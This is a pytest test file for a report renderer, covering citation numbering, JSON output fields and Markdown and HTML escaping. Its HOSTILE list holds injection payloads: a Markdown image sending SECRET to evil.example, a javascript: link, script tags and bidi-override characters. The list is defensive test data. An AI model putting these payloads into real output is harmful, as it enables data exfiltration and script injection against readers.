"""What is rendered: numbers that match in both directions, documents shown as text, verdicts for all to see."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from leadline.research.events import Leaf, Report, Section, Table
from leadline.research.report.html import render_html
from leadline.research.report.markdown import escaped
from leadline.research.report.numbering import CitationsDoNotMatch, assert_two_way

Maker = Callable[..., Any]
_MARK = re.compile(r"(?<!\\)\[(\d+)\]")
_HIDDEN = re.compile(
    r"[\x00-\x08\x0e-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f\ufeff\ud800-\udfff]"
)


def test_numbers_go_by_first_mention_and_one_quote_keeps_its_number(pump: Any) -> None:
    result = pump.result()
    assert [one.evidence for one in result.citations] == ["u1.e1", "u1.e3", "u1.e2"]
    assert [sentence.citations for sentence in result.sentences] == [(1,), (2, 1), (3,), ()]
    assert [source.location for source in result.sources] == ["folder/d-1.md", "folder/d-2.md"]
    assert [one.source for one in result.citations] == [1, 2, 1]


def test_the_same_span_recorded_twice_has_one_number(make_world: Maker) -> None:
    world = make_world()
    source = world.source("Alpha beta gamma.")
    first, second = world.quote(source, "Alpha beta gamma."), world.quote(source, "Alpha beta gamma.")
    world.draft(
        [
            Leaf(text="Alpha beta gamma.", evidence=(first, second)),
            Leaf(text="Alpha beta gamma.", evidence=(second,)),
        ]
    )
    result = world.result()
    assert len(result.citations) == 1
    assert [one.citations for one in result.sentences] == [(1,), (1,)]


@pytest.mark.case("R05")
def test_marks_and_entries_match_in_both_directions(pump: Any) -> None:
    report = pump.result().report
    prose, listing = report.split("## Sources")
    assert set(_MARK.findall(prose)) == set(_MARK.findall(listing)) == {"1", "2", "3"}


@pytest.mark.case("R05")
@pytest.mark.parametrize(("marks", "entries"), [([1, 2, 5], [1, 2, 3]), ([1], []), ([], [1])])
def test_a_mark_without_an_entry_is_a_defect(marks: list[int], entries: list[int]) -> None:
    with pytest.raises(CitationsDoNotMatch):
        assert_two_way(marks, entries)


def test_every_source_number_of_a_citation_exists_and_every_number_once(pump: Any) -> None:
    value = json.loads(pump.result().to_json())
    numbers = [source["n"] for source in value["sources"]]
    assert numbers == list(range(1, len(numbers) + 1))
    assert all(one["source"] in numbers for one in value["citations"])


def test_the_result_has_the_published_field_names(pump: Any) -> None:
    value = json.loads(pump.result().to_json())
    assert {
        "id",
        "status",
        "title",
        "report",
        "sources",
        "citations",
        "sentences",
        "coverage",
        "usage",
        "notes",
        "metadata",
    } <= set(value)
    assert {
        "n",
        "key",
        "title",
        "location",
        "kind",
        "published",
        "retrieved_at",
        "snapshot",
        "outcome",
    } <= set(value["sources"][0])
    assert value["sources"][1]["supersedes"] == [1]
    assert {"n", "source", "quote", "start", "end", "page", "match"} <= set(value["citations"][0])
    assert set(value["sentences"][0]) >= {
        "text",
        "section",
        "citations",
        "label",
        "verdict",
        "reason",
        "checks",
    }
    assert {"asked", "searched", "read", "blocked", "cited", "unresolved"} <= set(value["coverage"])
    assert value["usage"]["calls"] == 3 and value["usage"]["tokens"] == {"input": 100, "output": 20}
    assert "cost" not in value["usage"] and "error" not in value


@pytest.mark.case("R20")
def test_a_page_is_shown_only_where_it_is_known(pump: Any) -> None:
    report = pump.result().report
    assert '[1] p. 1 "The VLX-500 reaches 420 km on one charge."' in report
    assert '[2] "The VLX-500 costs EUR 1,350."' in report


def test_what_is_not_supported_is_marked_and_the_marks_are_explained(pump: Any) -> None:
    report = pump.result().report
    assert "The VLX-500 reaches 420 km on one charge. [1]\n" in report.replace(" The VLX-500 costs", "\n")
    assert "It costs EUR 1,250 in 2024. [3] (!)" in report
    assert "Together these make the pump fit for the task. (~)" in report
    assert "Without a mark: a cited quote says so in these words; (!) contradicted: " in report
    assert "(~) not checked: " in report and "(?) not" not in report
    counted = "4 (supported 2, contradicted 1, not established 0, not checked 1)."
    assert f"Sentences and table cells: {counted}" in report


def test_coverage_names_what_was_blocked_and_what_is_open(pump: Any) -> None:
    report = pump.result().report
    counted = "Sources found: 3; read: 2; not usable: 1 (blocked 1); cited: 2. Quotes cited: 3."
    assert f"- Questions: 1. Searches: 3. {counted}" in report
    assert "- Not usable: Blocked page (folder/d-3.md): blocked (a challenge page)" in report
    assert "- Not answered: What does servicing cost?" in report


def test_a_newer_version_says_what_it_supersedes_even_if_the_older_is_not_cited(make_world: Maker) -> None:
    world = make_world()
    old = world.source("The cap is 10 units.", published="2020")
    new = world.source("The cap is 12 units.", published="2024")
    evidence = world.quote(new, "The cap is 12 units.")
    world.version(new, old)
    world.draft([Leaf(text="The cap is 12 units.", evidence=(evidence,))])
    result = world.result()
    assert [(one.location, one.cited, one.supersedes) for one in result.sources] == [
        ("folder/d-2.md", True, (2,)),
        ("folder/d-1.md", False, ()),
    ]
    assert "supersedes folder/d-1.md" in result.report
    assert "superseded by folder/d-2.md" in result.report


@pytest.mark.case("R08")
def test_two_documents_under_one_key_stay_two_sources(make_world: Maker) -> None:
    world = make_world()
    main = world.source("The main text says ten.", key="10.1/x", title="Study", part="main")
    extra = world.source("The supplement says eleven.", key="10.1/x", title="Study", part="supplement")
    a, b = world.quote(main, "The main text says ten."), world.quote(extra, "The supplement says eleven.")
    world.draft(
        [
            Leaf(text="The main text says ten.", evidence=(a,)),
            Leaf(text="The supplement says eleven.", evidence=(b,)),
        ]
    )
    result = world.result()
    assert len(result.sources) == 2
    assert "main" in result.report and "supplement, " not in result.report.split("## Sources")[0]
    assert [one.part for one in result.sources] == ["main", "supplement"]


@pytest.mark.case("R04")
def test_the_whole_address_of_a_fetched_document_is_shown(make_world: Maker) -> None:
    world = make_world()
    source = world.source("Alpha beta gamma.", location="https://site.example/a/b?id=5&x=(1)", kind="web")
    world.draft([Leaf(text="Alpha beta gamma.", evidence=(world.quote(source, "Alpha beta gamma."),))])
    result = world.result()
    assert "<https://site.example/a/b?id=5&x=(1)>" in result.report
    assert 'href="https://site.example/a/b?id=5&amp;x=(1)"' in render_html(result, world.ledger.draft)


HOSTILE = [
    "![x](https://evil.example/p?d=SECRET)",
    "[x](javascript:alert(1))",
    "<img src=https://evil.example/p> <script>alert(1)</script>",
    "[ref]: https://evil.example/p",
    "# Heading | cell | `code` *em* __strong__ ~~no~~",
    "- item",
    "1. item",
    "> quote",
    "[1] and [99] and [^1]",
    "https://evil.example/p www.evil.example",
    "&lt;b&gt; &#91;1&#93; \\[2\\]",
    "```\nfence",
    "Setext\n===",
    "a\n\n# b\n\n| x |\n|---|",
    "\u202eevil\u2066 text",
    "<!-- [1] -->",
]


class _Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self.text += " " if tag in ("p", "li", "td", "th", "tr", "h2", "blockquote") else ""

    def handle_data(self, data: str) -> None:
        self.text += data


def _hostile_world(make_world: Maker, words: str) -> Any:
    world = make_world(question=words)
    text = f"Before.\n\n{words}\n\nAfter it all."
    source = world.source(text, title=words, location="folder/" + words)
    world.source("", outcome="error", reason=words, title=words)
    evidence = world.quote(source, text)
    world.note(words)
    world.end_unit(unresolved=(words,))
    report = Report(
        title=words,
        sections=(
            Section(
                heading=words,
                blocks=(Table(header=(words,), rows=((Leaf(text=words, evidence=(evidence,)),),)),),
            ),
        ),
    )
    world.draft(report)
    return world


@pytest.mark.case("P30")
@pytest.mark.parametrize("words", HOSTILE)
def test_no_document_or_model_text_becomes_markup_in_markdown(make_world: Maker, words: str) -> None:
    report = _hostile_world(make_world, words).result("partial", words).report
    html = MarkdownIt("gfm-like", {"html": True, "linkify": False}).render(report)
    seen = _Seen()
    seen.feed(html)
    tags = {tag for tag, _ in seen.tags}
    assert tags <= {"h1", "h2", "p", "ul", "li", "table", "thead", "tbody", "tr", "th", "td", "blockquote"}, (
        tags,
        report,
    )
    assert [tag for tag, _ in seen.tags].count("h2") == 5
    assert set(_MARK.findall(report)) == {"1"}


@pytest.mark.case("P30")
@pytest.mark.parametrize("words", HOSTILE)
def test_the_html_page_loads_nothing_and_runs_nothing(make_world: Maker, words: str) -> None:
    world = _hostile_world(make_world, words)
    page = render_html(world.result(), world.ledger.draft)
    seen = _Seen()
    seen.feed(page)
    tags = {tag for tag, _ in seen.tags}
    assert not tags & {"img", "script", "iframe", "link", "object", "embed", "svg", "base", "form", "code"}
    for tag, attributes in seen.tags:
        assert not any(name.startswith("on") or name in ("src", "srcset", "style") for name in attributes)
        if tag == "a":
            assert re.fullmatch(r"#[csv]\d+", attributes["href"] or "")
    csp = next(a["content"] for tag, a in seen.tags if tag == "meta" and a.get("http-equiv"))
    assert csp is not None and "default-src 'none'" in csp
    assert "url(" not in page and "@import" not in page


_ANY = st.text(max_size=60) | st.lists(
    st.sampled_from(
        [
            *HOSTILE,
            *"[](){}*_`\\#|~$<>&!:=+-.^'\"@ \n",
            "1.",
            "x",
            "4)",
            "&amp;",
            "***",
            "~~",
            "--",
            "|-|",
            "[1]: /x",
        ]
    ),
    max_size=8,
).map("".join)
_PLACES = {
    "start": "{}",
    "item": "- {}",
    "inside": '  \n- a\n  - [1] p. 2 "{}"',
    "cell": "| a | b |\n| --- | --- |\n| {} | c |",
    "heading": "## {}",
    "quote": "> {}",
}


def _rendered(markdown: str, preset: str) -> _Seen:
    options = {"html": True, "linkify": False}
    seen = _Seen()
    seen.feed(MarkdownIt(preset, options).render(markdown))
    seen.close()
    return seen


@pytest.mark.case("P30")
@given(_ANY)
@settings(max_examples=400, deadline=None)
@example("* x")
@example("_ _ _")
@example("C #")
@example("a \\| b")
@example("<a href=x>")
@example("--- | ---")
def test_any_text_escaped_is_shown_as_itself_wherever_it_stands(text: str) -> None:
    words = " ".join(_HIDDEN.sub("", text).split())
    for where, frame in _PLACES.items():
        place: Any = {"item": "start", "quote": "start"}.get(where, where)
        shown = escaped(text, place)
        assert "\n" not in shown
        seen = _rendered(frame.format(shown), "gfm-like")
        allowed = {tag for tag, _ in _rendered(frame.format("x"), "gfm-like").tags}
        assert {tag for tag, _ in seen.tags} <= allowed, (where, shown)
        expected = " ".join(frame.format("\0").replace("| --- | --- |", "").split())
        for mark in ("| a | b |", "- a", "- ", "| \0 | c |", "## ", "> "):
            expected = expected.replace(
                mark, {"| a | b |": "a b", "- a": "a", "| \0 | c |": "\0 c"}.get(mark, "")
            )
        assert " ".join(seen.text.split()) == " ".join(expected.replace("\0", words).split()), (where, shown)


@given(_ANY)
@settings(max_examples=200, deadline=None)
def test_no_mark_can_be_forged(text: str) -> None:
    assert not _MARK.search(escaped(text)) and not re.search(r"\[\d+\]", escaped(text))


@pytest.mark.parametrize(
    "text",
    [
        "Battery: 10h Li-ion, swappable (80 % in 18 min).",
        "VLX-500 Product Brief - v0.9 + addenda, p. 3",
        "snake_case, file_name.txt, a*b is 5 * 3 = 15",
        "Costs of $5 and $6.50 | EUR 7; < 5 %, > 3; ~4 weeks; #1 & R&D",
        "It ended in 2024. Then (1) began: 50-60 %",
    ],
)
def test_ordinary_words_have_no_backslashes(text: str) -> None:
    assert escaped(text, "inside").replace("a\\*b", "a*b") == text


def test_the_page_names_language_and_direction(make_world: Maker) -> None:
    world = make_world()
    world.events[0] = type(world.events[0])(
        run="r", request=type(world.ledger.request)(question="q", language="ar")
    )
    world.draft([Leaf(text="A.", label="analysis")])
    page = render_html(world.result(), world.ledger.draft)
    assert '<html lang="ar" dir="rtl">' in page


def test_a_quote_is_shown_in_its_place_in_the_page(pump: Any) -> None:
    page = render_html(pump.result(), pump.ledger.draft)
    assert (
        '<span class="context">The VLX-500 reaches 420 km on one charge. </span><mark>It costs EUR 1,200 in 2024.</mark>'
        in page
    )
    assert 'href="#c3"' in page and 'id="c3"' in page


@pytest.mark.case("L02")
@pytest.mark.parametrize("encoding", ["cp1252", "gbk", "ascii"])
def test_what_code_adds_to_a_report_can_be_printed_anywhere(pump: Any, encoding: str) -> None:
    pump.result("partial", "stopped early").report.encode(encoding)


def test_chinese_text_is_rendered_as_it_is(make_world: Maker) -> None:
    world = make_world(question="收入如何？")
    text = "公司2023年收入增长了12%，达到5.2亿元。"
    evidence = world.quote(world.source(text, title="年报"), text)
    world.draft([Leaf(text=text, evidence=(evidence,))])
    result = world.result()
    assert f"{text} [1]" in result.report and "年报" in result.report
    assert result.sentences[0].verdict == "supported"


def test_a_run_without_a_draft_has_a_result_without_a_report(make_world: Maker) -> None:
    world = make_world()
    world.source("", outcome="blocked")
    world.end_unit(status="failed", error="no evidence")
    result = world.result("failed", "not found in the corpus")
    assert result.report == "" and result.citations == () and result.error == "not found in the corpus"
    assert result.coverage.blocked == 1 and result.coverage.unresolved
    assert "not found in the corpus" in render_html(result, None)


def test_the_same_ledger_gives_the_same_bytes(pump: Any) -> None:
    assert pump.result().to_json() == pump.result().to_json()
    assert render_html(pump.result(), pump.ledger.draft) == render_html(pump.result(), pump.ledger.draft)


def test_a_later_verdict_of_a_person_is_what_the_report_shows(pump: Any) -> None:
    from leadline.research.events import VerdictGiven

    pump.events.append(VerdictGiven(sentence=2, verdict="supported", reason="read it", by="person:ann"))
    result = pump.result()
    assert result.sentences[2].by == "person:ann"
    assert "(!)" not in result.report


def test_evidence_listed_without_a_writer_can_be_published(make_world: Maker) -> None:
    from leadline.research.report.draft import report_errors
    from leadline.research.report.evidence_list import evidence_list

    world = make_world()
    text = "Sales rose 12 %[3], see https://a.example/x.\nMore of it."
    world.quote(world.source(text), text)
    report = evidence_list(world.ledger)
    assert report_errors(report, world.ledger) == []
    world.draft(report)
    assert [one.verdict for one in world.result().sentences if one.citations] == ["supported"]
